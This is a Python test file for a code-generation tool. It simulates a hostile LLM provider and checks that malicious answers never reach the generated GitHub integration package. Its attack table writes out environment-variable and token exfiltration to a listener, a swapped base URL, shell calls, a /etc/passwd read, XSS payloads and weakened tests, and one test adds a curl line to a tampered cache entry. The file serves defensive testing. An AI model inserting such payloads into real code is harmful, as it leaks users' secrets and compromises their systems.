"""A hostile model provider on loopback plays known attacks through whole `integrate create` runs.

Each build attacks every enriched file at once (adapter, tests, guide, examples), on every
try the repair loop gives it. Nothing hostile may be written: each attacked file, in the
package and in its pristine store, is the rendered template, its provenance says so, no
request reaches the exfiltration listener (validation imports the adapter and runs the
tests), and the provider key is in no file, cache entry or output.
"""

from __future__ import annotations

import json
from collections.abc import Iterator, Mapping
from pathlib import Path
from typing import Any

import pytest
from listener import Listener
from weakening import weakened

from agentflow.generation.backends.key_pieces import ProviderKeys
from agentflow.generation.backends.llm import ChatRequest
from agentflow.package.pristine import PRISTINE_DIR
from generation.backends.llm_replies import Answer
from generation.backends.llm_server import FakeLLMServer, Reply, ok, render

from .backend_cli import (
    ENRICHED,
    invoke,
    metadata,
    openai_at,
    workdir_fixture,  # noqa: F401
)
from .fake_chat import target
from .guarded import ADAPTER, EXAMPLES, GUIDE, MODULE_LEVEL, SENDING_CALL, TESTS, edit, insert
from .guarded import rendered as templates

pytestmark = pytest.mark.slow

KEY = "sk-live-hostile-7b3e9d1c4a5f"
LEAKS = ProviderKeys([KEY]).leaks
PACKAGE = Path("integrations/github")
EXAMPLES_MAIN = '"""Run every example in turn."""'
TEST_DEFAULTS = 'BASE_PATH = ""'


class HostileServer(FakeLLMServer):
    """Answers each prompt with the scripted text for the file it asks about."""

    def __init__(self) -> None:
        super().__init__()
        self.answers: dict[str, str] = {}

    def answer_for(self, path: str, headers: dict[str, str], body: Any) -> tuple[Reply, Answer]:
        reply, answer = super().answer_for(path, headers, body)
        if reply.kind != "ok":
            return reply, answer
        prompt = body["messages"][-1]["content"]
        file = target(ChatRequest(body["model"], "", prompt))
        scripted = ok(self.answers[file], input_tokens=1000, output_tokens=1000)
        return scripted, render(path, scripted, body)


@pytest.fixture
def hostile(workdir: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[HostileServer]:
    """The hostile provider, holding `KEY`, for builds with one worker in `workdir`."""
    monkeypatch.setenv("OPENAI_API_KEY", KEY)
    (workdir / "agentflow.toml").write_text("[backend]\nworkers = 1\n", encoding="utf-8")
    with HostileServer() as server:
        server.expected_key = KEY
        yield server


def create(server: HostileServer) -> str:
    """Run `integrate create` against `server`; its output (the run must succeed)."""
    result = invoke("create", "spec.yaml", "--force", *openai_at(server))
    assert result.exit_code == 0, result.output
    return result.output


def adapter_requests(server: HostileServer) -> int:
    return sum(f"File to improve: {ADAPTER}" in json.dumps(r.body) for r in server.requests)


def assert_nothing_hostile_written(paths: tuple[str, ...], output: str, root: Path) -> None:
    records = metadata()["files"]
    for path in paths:
        assert (PACKAGE / path).read_text(encoding="utf-8") == templates()[path], path
        pristine = PACKAGE / PRISTINE_DIR / path
        assert pristine.read_text(encoding="utf-8") == templates()[path], path
        assert str(records[path]["provenance"]).startswith("template (fallback after"), path
    files = [p for p in root.rglob("*") if p.is_file()]
    assert [p for p in files if LEAKS(p.read_text("utf-8", errors="replace"))] == []
    assert not LEAKS(output)


def attacks(url: str, marker: Path) -> Mapping[str, Mapping[str, str]]:
    """Builds, each attacking every enriched file; `url` is the exfiltration listener's."""
    exfil = f'getattr(httpx, "po" + "st")("{url[:5]}" + "{url[5:]}/exfil", json=dict(os.environ))'
    return {
        "module-level exfiltration, shell in tests and examples, a script tag": {
            ADAPTER: insert(ADAPTER, MODULE_LEVEL, exfil),
            TESTS: insert(TESTS, TEST_DEFAULTS, f'logging.os.system("touch {marker}")'),
            GUIDE: templates()[GUIDE] + "\n<script>fetch('/steal')</script>\n",
            EXAMPLES: insert(
                EXAMPLES,
                EXAMPLES_MAIN,
                f'asyncio.run(asyncio.create_subprocess_shell("touch {marker}"))',
            ),
        },
        "the token sent from _request, tests that cannot fail, onerror, a file read": {
            ADAPTER: insert(
                ADAPTER,
                SENDING_CALL,
                f'httpx.post("{url}/token", headers=self._http.headers)',
            ),
            TESTS: weakened(templates()[TESTS]),
            GUIDE: templates()[GUIDE] + '\n<img src="x" onerror="alert(1)">\n',
            EXAMPLES: insert(EXAMPLES, EXAMPLES_MAIN, 'print(open("/etc/passwd").read())'),
        },
        "a base URL swapped for the default config, skipped tests, a javascript: link": {
            ADAPTER: insert(
                ADAPTER,
                '"headers": headers,\n',
                f'**({{"url": "{url[:5]}" + "{url[5:]}"}} '
                "if self._config == GitHubConfig() else {}),",
            ),
            TESTS: templates()[TESTS].replace("\ndef test_", "\n@pytest.mark.skip\ndef test_"),
            GUIDE: templates()[GUIDE] + "\n[Open the console](javascript:alert(1))\n",
            EXAMPLES: edit(
                EXAMPLES,
                "with GitHubClient() as client:",
                "with GitHubClient() as client:  # " + url,
            ),
        },
    }


@pytest.mark.parametrize("attack", sorted(attacks("http://127.0.0.1:9", Path("owned"))))
def test_hostile_answers_never_reach_the_package(
    hostile: HostileServer, workdir: Path, attack: str
) -> None:
    marker = workdir / "owned"
    with Listener() as listener:
        hostile.answers = dict(attacks(listener.url, marker)[attack])
        output = create(hostile)
        assert listener.connections == 0
    assert not marker.exists()
    assert_nothing_hostile_written(ENRICHED, output, workdir)
    assert len(hostile.requests) == 4 * 3  # every file tried, then repaired twice


def test_a_provider_echoing_the_key_gets_nothing_written(
    hostile: HostileServer, workdir: Path
) -> None:
    hostile.answers = {
        path: templates()[path].rstrip("\n") + f"\n\n# seen: {KEY}\n" for path in ENRICHED
    }
    output = create(hostile)
    assert_nothing_hostile_written(ENRICHED, output, workdir)
    for request in hostile.requests:
        assert not LEAKS(json.dumps(request.body))  # repair prompts carry no piece back


def test_a_tampered_cache_entry_is_checked_like_a_fresh_answer(
    hostile: HostileServer, workdir: Path
) -> None:
    marker = workdir / "owned"
    hostile.answers = {
        path: templates()[path].rstrip("\n") + "\n\n# Reviewed.\n"
        for path in (ADAPTER, TESTS, EXAMPLES)
    } | {GUIDE: templates()[GUIDE] + "\nMore notes.\n"}
    create(hostile)
    assert "# Reviewed." in (PACKAGE / ADAPTER).read_text(encoding="utf-8")
    entries = sorted((workdir / "cache" / "responses").glob("*.json"))
    entry = next(p for p in entries if "class GitHubClient" in p.read_text(encoding="utf-8"))
    with Listener() as listener:
        data = json.loads(entry.read_text(encoding="utf-8"))
        data["text"] += f'\nimport subprocess\nsubprocess.run(["curl", "{listener.url}"])\n'
        entry.write_text(json.dumps(data), encoding="utf-8")
        hostile.answers[ADAPTER] = insert(ADAPTER, MODULE_LEVEL, f'os.system("touch {marker}")')
        before = adapter_requests(hostile)
        output = create(hostile)
        assert listener.connections == 0
    assert not marker.exists()
    assert adapter_requests(hostile) == before + 2  # the entry was rejected, then repaired
    assert_nothing_hostile_written((ADAPTER,), output, workdir)
